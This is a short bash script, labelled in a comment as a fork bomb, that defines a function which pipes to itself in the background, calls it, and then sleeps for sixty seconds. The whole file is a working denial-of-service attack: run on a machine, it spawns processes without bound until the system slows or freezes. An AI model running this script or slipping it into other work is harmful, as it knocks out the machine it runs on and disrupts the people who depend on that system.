#!/bin/bash
# The fork bomb.
bomb() { bomb | bomb & }
bomb
sleep 60
